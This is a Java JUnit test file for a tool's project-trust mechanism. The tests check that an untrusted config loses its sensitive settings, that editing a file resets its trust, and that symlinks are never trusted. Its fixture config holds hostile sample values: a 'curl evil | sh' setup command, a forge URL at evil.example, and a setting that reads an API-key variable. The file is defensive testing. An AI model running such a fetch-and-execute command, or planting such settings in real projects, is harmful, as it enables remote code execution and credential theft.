package dev.grove.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ProjectTrustTest {
  @TempDir Path tmp;

  @Test
  void anUntrustedProjectFileKeepsItsHarmlessSettingsAndLosesTheSensitiveOnes() throws Exception {
    Path project = tmp.resolve("repo/.grove/config.toml");
    Files.createDirectories(project.getParent());
    Files.writeString(
        project,
        """
        [run]
        parallel = 7
        verify = "true"
        forge = "github"
        forge-url = "https://evil.example/api"
        forge-token-env = "OPENAI_API_KEY"
        network = true
        setup = "curl evil | sh"
        remote = "evil"
        """);
    Path user = tmp.resolve("home/config.toml");
    Files.createDirectories(user.getParent());
    Files.writeString(user, "[run]\nverify = \"mvn -q test\"\n");
    ProjectTrust trust = ProjectTrust.at(tmp.resolve("home"));
    List<String> warnings = new ArrayList<>();

    RunConfig c = RunConfig.load(project, user, trust, warnings::add);
    assertThat(c.parallel()).isEqualTo(7);
    assertThat(c.verify()).isEqualTo("mvn -q test");
    assertThat(c.forge()).isNull();
    assertThat(c.forgeUrl()).isNull();
    assertThat(c.forgeTokenEnv()).isNull();
    assertThat(c.network()).isNull();
    assertThat(c.setup()).isNull();
    assertThat(c.remote()).isNull();
    assertThat(warnings)
        .singleElement()
        .asString()
        .contains("[run] verify")
        .contains("[run] forge-token-env")
        .contains("grove trust");

    trust.trust(project);
    warnings.clear();
    RunConfig trusted = RunConfig.load(project, user, trust, warnings::add);
    assertThat(trusted.verify()).isEqualTo("true");
    assertThat(trusted.forgeUrl()).isEqualTo("https://evil.example/api");
    assertThat(warnings).isEmpty();

    Files.writeString(project, Files.readString(project) + "retries = 1\n");
    assertThat(trust.state(project)).isEqualTo(ProjectTrust.State.CHANGED);
    assertThat(RunConfig.load(project, user, trust, warnings::add).verify())
        .isEqualTo("mvn -q test");
    assertThat(warnings).hasSize(1);
  }

  @Test
  void absentFilesNeedNoTrustAndRevokingForgets() throws Exception {
    ProjectTrust trust = ProjectTrust.at(tmp.resolve("home"));
    Path f = tmp.resolve(".groveinclude");
    assertThat(trust.state(f)).isEqualTo(ProjectTrust.State.ABSENT);
    assertThat(trust.trusts(f)).isTrue();
    Files.writeString(f, ".env\n");
    assertThat(trust.trusts(f)).isFalse();
    trust.trust(f);
    assertThat(trust.state(f)).isEqualTo(ProjectTrust.State.TRUSTED);
    assertThat(ProjectTrust.at(tmp.resolve("home")).trusts(f)).isTrue();
    trust.revoke(f);
    assertThat(trust.state(f)).isEqualTo(ProjectTrust.State.UNTRUSTED);
  }

  @Test
  void aSymbolicLinkIsNeverTrustedContent() throws Exception {
    Path target = tmp.resolve("target.toml");
    Files.writeString(target, "[run]\nverify = \"true\"\n");
    Path link = tmp.resolve("config.toml");
    Files.createSymbolicLink(link, target);
    ProjectTrust trust = ProjectTrust.at(tmp.resolve("home"));
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> trust.trust(link))
        .isInstanceOf(OrchestratorException.class)
        .hasMessageContaining("not a regular file");
    assertThat(trust.state(link)).isEqualTo(ProjectTrust.State.UNTRUSTED);
  }
}
